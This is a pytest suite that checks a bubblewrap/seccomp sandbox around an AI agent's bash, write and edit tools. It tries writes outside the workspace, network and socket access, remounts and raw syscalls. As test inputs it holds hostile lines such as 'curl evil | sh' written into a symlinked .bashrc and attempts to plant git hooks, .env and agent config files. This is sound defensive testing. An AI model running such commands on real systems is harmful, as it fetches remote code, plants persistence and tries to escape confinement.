"""bash under bubblewrap (`--sandbox workspace-write`): real bwrap, real processes.

Each check runs the same command unconfined too where that is safe, so a passing
test means the sandbox made the difference. Without a working bubblewrap these
tests skip locally and fail under CI (CI=true).
"""

from __future__ import annotations

import asyncio
import socket
import sys
import tempfile
import uuid
from pathlib import Path

import pytest

from agent.config import Settings
from agent.errors import ConfigError
from agent.tools.local import sandbox as confine
from agent.tools.local import seccomp
from agent.tools.local.local_tools import local_tools
from agent.tools.router import ToolRouter
from agent.tools.spec import ToolContext, ToolResult
from tests.bubblewrap import require_sandbox

ROUTER = ToolRouter(local_tools())


@pytest.fixture
def temp_dir(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A temp dir of the test's own, so tmp_path itself is outside every writable place."""
    temp = tmp_path / "tmp"
    temp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(temp))
    return temp


@pytest.fixture
def workspace(isolated_env: Path, temp_dir: Path) -> Path:
    require_sandbox()
    return isolated_env


def call(
    cwd: Path,
    command: str,
    sandbox: str = "workspace-write",
    allow_network: bool = False,
    **args: object,
) -> ToolResult:
    settings = Settings(sandbox=sandbox, allow_network=allow_network)
    ctx = ToolContext(settings=settings, cwd=cwd, turn=1)
    return asyncio.run(ROUTER.call("bash", {"command": command, **args}, ctx))


def test_workspace_and_temp_dir_are_writable(workspace, temp_dir):
    result = call(workspace, f"echo work > made.txt && echo temp > {temp_dir}/made.txt && pwd")
    assert not result.is_error, result.content
    assert (workspace / "made.txt").read_text() == "work\n"
    assert (temp_dir / "made.txt").read_text() == "temp\n"
    assert result.content.strip() == str(workspace)


def test_a_write_outside_the_workspace_fails(workspace, tmp_path):
    outside = tmp_path / "outside.txt"
    confined = call(workspace, f"echo escaped > {outside}")
    assert confined.is_error
    assert "Read-only file system" in confined.content
    assert not outside.exists()

    unconfined = call(workspace, f"echo escaped > {outside}", sandbox="off")
    assert not unconfined.is_error, unconfined.content
    assert outside.read_text() == "escaped\n"


def test_work_dir_inside_the_workspace_is_kept(workspace):
    (workspace / "sub").mkdir()
    result = call(workspace, "pwd && touch here", work_dir="sub")
    assert not result.is_error, result.content
    assert result.content.strip() == str(workspace / "sub")
    assert (workspace / "sub" / "here").exists()


@pytest.fixture
def loopback_port():
    """A TCP listener in this process: reachable only from this network namespace."""
    with socket.create_server(("127.0.0.1", 0)) as server:
        yield server.getsockname()[1]


def connect_command(port: int) -> str:
    code = f"import socket; socket.create_connection(('127.0.0.1', {port}), timeout=5); print('up')"
    return f'{sys.executable} -c "{code}"'


def test_the_network_is_unreachable_unless_allowed(workspace, loopback_port):
    command = connect_command(loopback_port)
    confined = call(workspace, command)
    assert confined.is_error
    assert "ConnectionRefusedError" in confined.content or "unreachable" in confined.content

    unconfined = call(workspace, command, sandbox="off")
    assert unconfined.content.strip() == "up", unconfined.content

    allowed = call(workspace, command, allow_network=True)
    assert allowed.content.strip() == "up", allowed.content


def processes_named(name: str) -> list[Path]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if entry.name.isdigit() and (entry / "cmdline").read_bytes().startswith(name.encode()):
                found.append(entry)
        except OSError:
            continue
    return found


def test_a_timeout_stops_every_confined_process(workspace):
    name = f"confined-{uuid.uuid4().hex[:8]}"
    command = f"(exec -a {name} sleep 60) & (exec -a {name} sleep 60)"
    result = call(workspace, command, timeout=1)
    assert result.is_error
    assert "timed out after 1 s" in result.content
    assert processes_named(name) == []


def test_cancelling_kills_confined_processes_at_once(workspace):
    """Ctrl-C reaches inside the sandbox too, even processes that ignore SIGTERM."""
    name = f"confined-{uuid.uuid4().hex[:8]}"

    async def scenario() -> None:
        started = asyncio.Event()
        settings = Settings(sandbox="workspace-write", allow_network=False)
        ctx = ToolContext(settings=settings, cwd=workspace, log=lambda line: started.set())
        inner = "trap '' TERM; echo started; sleep 100; true"
        command = f'(exec -a {name} bash -c "{inner}") & wait'
        task = asyncio.create_task(ROUTER.call("bash", {"command": command}, ctx))
        await asyncio.wait_for(started.wait(), 10)
        assert processes_named(name)
        task.cancel()
        with pytest.raises(asyncio.CancelledError):
            await task

    asyncio.run(scenario())
    assert processes_named(name) == []


def test_missing_bubblewrap_says_how_to_install_it(isolated_env, tmp_path, monkeypatch):
    monkeypatch.setenv("PATH", str(tmp_path / "empty"))
    with pytest.raises(ConfigError, match="apt-get install bubblewrap"):
        confine.check_available()

    result = call(isolated_env, "touch ran")
    assert result.is_error
    assert "Not run" in result.content
    assert "bubblewrap (bwrap) is not installed" in result.content
    assert not (isolated_env / "ran").exists()


def test_unusable_bubblewrap_is_reported_with_its_reason(isolated_env, tmp_path, monkeypatch):
    bin_dir = tmp_path / "bin"
    bin_dir.mkdir()
    fake = bin_dir / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: No permissions to create new namespace' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("PATH", f"{bin_dir}:/usr/bin:/bin")
    message = "bubblewrap cannot create a sandbox here: bwrap: No permissions to create new"
    with pytest.raises(ConfigError, match=message):
        confine.check_available()

    result = call(isolated_env, "touch ran")
    assert result.is_error
    assert message in result.content
    assert not (isolated_env / "ran").exists()


def test_available_bubblewrap_passes_the_start_up_check(workspace):
    confine.check_available()
    confine.check_available(allow_network=True)


def test_root_in_the_sandbox_holds_no_capabilities_and_cannot_mount(workspace, tmp_path):
    """Run as root, as CI does: a remount would make the whole disk writable again."""
    outside = tmp_path / "after-remount.txt"
    command = (
        "id -u; grep CapEff /proc/self/status; "
        f"mount -o remount,bind,rw / && echo remounted; touch {outside}; "
        "mount -t tmpfs none /mnt && echo mounted; "
        "unshare -Urm sh -c 'mount -o remount,bind,rw / && echo remounted-in-userns'; true"
    )
    result = call(workspace, command)
    assert "CapEff:\t0000000000000000" in result.content, result.content
    assert "permission denied" in result.content.lower()
    assert "remounted" not in result.content
    assert "mounted\n" not in result.content
    assert not outside.exists()


@pytest.fixture
def host_socket(tmp_path: Path):
    """A unix socket listener on the host, visible (read-only) inside the sandbox."""
    path = tmp_path / "host.sock"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(str(path))
        server.listen()
        yield path


def unix_connect_command(address: str) -> str:
    code = (
        "import socket; s = socket.socket(socket.AF_UNIX); "
        f"s.connect({address!r}); print('connected')"
    )
    return f'{sys.executable} -c "{code}"'


@pytest.mark.parametrize("allow_network", [False, True])
def test_a_host_unix_socket_cannot_be_reached(workspace, host_socket, allow_network):
    command = f"test -S {host_socket} && echo visible; " + unix_connect_command(str(host_socket))
    confined = call(workspace, command, allow_network=allow_network)
    assert confined.is_error
    assert "visible" in confined.content  # the file is there: the filter refuses, not the view
    assert "PermissionError: [Errno 1] Operation not permitted" in confined.content
    assert "connected" not in confined.content

    unconfined = call(workspace, command, sandbox="off")
    assert "connected" in unconfined.content, unconfined.content


def test_an_abstract_unix_socket_cannot_be_reached_even_with_the_network(workspace):
    name = f"\0ml-intern-test-{uuid.uuid4().hex[:8]}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(name)
        server.listen()
        command = unix_connect_command(name)
        allowed = call(workspace, command, allow_network=True)
        assert "PermissionError" in allowed.content, allowed.content
        unconfined = call(workspace, command, sandbox="off")
        assert "connected" in unconfined.content, unconfined.content


def test_socketpairs_stay_usable_inside_the_sandbox(workspace):
    """Programs talk to their own children over stream pairs; only datagram pairs are refused."""
    code = (
        "import socket\n"
        "a, b = socket.socketpair(); a.sendall(b'ping'); print(b.recv(4).decode())\n"
        "try:\n    socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        "except PermissionError:\n    print('dgram refused')\n"
    )
    (workspace / "pair.py").write_text(code)
    result = call(workspace, f"{sys.executable} pair.py")
    assert result.content.split() == ["ping", "dgram", "refused"], result.content


def make_protected(workspace: Path) -> dict[Path, str]:
    files = {
        workspace / ".git" / "hooks" / "pre-commit": "#!/bin/sh\nexit 0\n",
        workspace / ".git" / "config": "[core]\n",
        workspace / ".env": "A=1\n",
        workspace / ".env.local": "B=2\n",
        workspace / "configs" / "cli_agent_config.json": "{}\n",
    }
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    return files


def test_git_env_and_configs_are_read_only_inside_the_workspace(workspace):
    files = make_protected(workspace)
    attempts = [
        *(f"echo changed > {path}" for path in files),
        f"echo hook > {workspace}/.git/hooks/post-checkout",
        f"rm -rf {workspace}/.git {workspace}/configs {workspace}/.env",
        f"mv {workspace}/.env {workspace}/moved",
        "echo ok > ordinary.txt",
    ]
    result = call(workspace, "; ".join(attempts))
    assert result.content.count("Read-only file system") >= len(files) + 1, result.content
    assert {path: path.read_text() for path in files} == files
    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()
    assert not (workspace / "moved").exists()
    assert (workspace / "ordinary.txt").read_text() == "ok\n"


def test_missing_git_env_and_configs_cannot_be_created(workspace):
    command = (
        "mkdir -p .git/hooks; git init -q .; echo x > .env; "
        "mkdir -p configs && echo '{}' > configs/cli_agent_config.json; "
        "echo ok > ordinary.txt"
    )
    result = call(workspace, command)
    assert "Operation not permitted" in result.content, result.content
    assert sorted(p.name for p in workspace.iterdir()) == ["ordinary.txt"]  # nothing else made


def call_tool(cwd: Path, name: str, args: dict, sandbox: str = "workspace-write") -> ToolResult:
    settings = Settings(sandbox=sandbox)
    ctx = ToolContext(settings=settings, cwd=cwd, turn=1)
    return asyncio.run(ROUTER.call(name, args, ctx))


def test_write_and_edit_follow_the_writable_roots(workspace, temp_dir, tmp_path):
    outside = tmp_path / "home" / "write_tool_pwned"
    refused = call_tool(workspace, "write", {"path": str(outside), "content": "x"})
    assert refused.is_error
    assert "outside the sandbox's writable places" in refused.content
    assert not outside.exists()

    bashrc = tmp_path / "home" / ".bashrc"
    bashrc.write_text("# mine\n")
    link = call(workspace, f"ln -s {bashrc} innocent.txt")
    assert not link.is_error, link.content
    for name, args in [
        ("write", {"path": "innocent.txt", "content": "curl evil | sh\n"}),
        ("edit", {"path": "innocent.txt", "old_str": "# mine", "new_str": "curl evil | sh"}),
    ]:
        result = call_tool(workspace, name, args)
        assert result.is_error
        assert f"{bashrc} is outside" in result.content
    assert bashrc.read_text() == "# mine\n"

    inside = call_tool(workspace, "write", {"path": "train.py", "content": "print(1)\n"})
    temp = call_tool(workspace, "write", {"path": str(temp_dir / "t.txt"), "content": "t"})
    assert not inside.is_error and not temp.is_error
    assert (workspace / "train.py").read_text() == "print(1)\n"

    unconfined = call_tool(workspace, "write", {"path": str(outside), "content": "x"}, "off")
    assert not unconfined.is_error and outside.read_text() == "x"


def test_write_and_edit_refuse_the_protected_paths(workspace):
    files = make_protected(workspace)
    for path in files:
        relative = str(path.relative_to(workspace))
        write = call_tool(workspace, "write", {"path": relative, "content": "changed"})
        assert write.is_error
        assert "stays read-only in the sandbox" in write.content
    created = call_tool(workspace, "write", {"path": ".git/hooks/post-checkout", "content": "x"})
    assert created.is_error
    read = call_tool(workspace, "read", {"path": ".env"})
    edit = call_tool(workspace, "edit", {"path": ".env", "old_str": "A=1", "new_str": "A=2"})
    assert not read.is_error and edit.is_error
    assert {path: path.read_text() for path in files} == files
    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()


def raw_syscall_command(nr: int, *args: int) -> str:
    code = (
        "import ctypes, os; libc = ctypes.CDLL(None, use_errno=True); "
        f"rc = libc.syscall({nr}, {', '.join(map(str, args))}); "
        "print('rc', rc, os.strerror(ctypes.get_errno()))"
    )
    return f'{sys.executable} -c "{code}"'


def test_io_uring_and_other_abis_are_closed_too(workspace):
    """io_uring could create a socket without `socket`; so could another syscall ABI."""
    arch = seccomp.machine_arch()
    io_uring = raw_syscall_command(arch.io_uring_setup, 1, 0)
    assert "Operation not permitted" in call(workspace, io_uring).content
    assert "Operation not permitted" not in call(workspace, io_uring, sandbox="off").content
    if arch.has_x32:
        x32_socket = raw_syscall_command(0x40000000 | arch.socket, 1, 1, 0)
        killed = call(workspace, x32_socket)
        assert killed.is_error
        assert "rc" not in killed.content
        assert "SIGSYS" in killed.content or "exit code 159" in killed.content, killed.content


NEXT_LAUNCH = [
    "sub/.git/config",
    "sub/deep/configs/cli_agent_config.json",
    "sub/.env.local",
    "sub/.envrc",
    "sub/AGENTS.md",
    "sub/CLAUDE.md",
    ".agents/skills/x.md",
    "sub/.claude/settings.json",
    "AGENTS.md",
]


def test_what_the_next_launch_reads_is_read_only_at_every_depth(workspace):
    files = {workspace / name: "mine\n" for name in NEXT_LAUNCH}
    for path, text in files.items():
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    attempts = [f"echo planted > {name}" for name in NEXT_LAUNCH]
    attempts += ["echo hook > sub/.git/hooks-post-checkout", "echo ok > sub/ordinary.txt"]
    result = call(workspace, "; ".join(attempts))
    assert result.content.count("Read-only file system") == len(NEXT_LAUNCH) + 1, result.content
    assert {path: path.read_text() for path in files} == files
    assert (workspace / "sub" / "ordinary.txt").read_text() == "ok\n"


def test_write_and_edit_refuse_what_the_next_launch_reads_at_every_depth(workspace):
    for name in [*NEXT_LAUNCH, "sub/.env", "a/b/.git/config", "sub/.env.production"]:
        result = call_tool(workspace, "write", {"path": name, "content": "planted"})
        assert result.is_error, name
        assert "stays read-only in the sandbox" in result.content
        assert not (workspace / name).exists()


def test_no_path_outside_the_writable_roots_is_writable(workspace, temp_dir):
    """Every read-write mount the sandbox sees, and every file root may write in /proc,
    /sys and /dev: nothing but the workspace, the temp dir and the sandbox's own devices."""
    probe = (
        "awk '$6 !~ /(^|,)ro(,|$)/ {print \"mount\", $5}' /proc/self/mountinfo; "
        "find /proc /sys -regextype posix-extended "
        "-regex '/proc/([0-9]+|self|thread-self)' -prune -o -writable -print 2>/dev/null; true"
    )
    result = call(workspace, probe)
    assert not result.is_error, result.content
    allowed_mounts = {str(workspace), str(temp_dir), "/proc"}
    sandbox_devices = ("/dev", "/dev/shm", "/dev/pts")  # bubblewrap's own tmpfs and devpts
    offending = []
    for line in result.content.splitlines():
        kind, _, path = line.partition(" ")
        if kind == "mount":
            if path in allowed_mounts or path in sandbox_devices:
                continue
            if path.startswith("/dev/") and Path(path).is_char_device():
                continue  # null, zero, random, tty, GPUs: devices, not files
        offending.append(line)
    assert offending == [], result.content
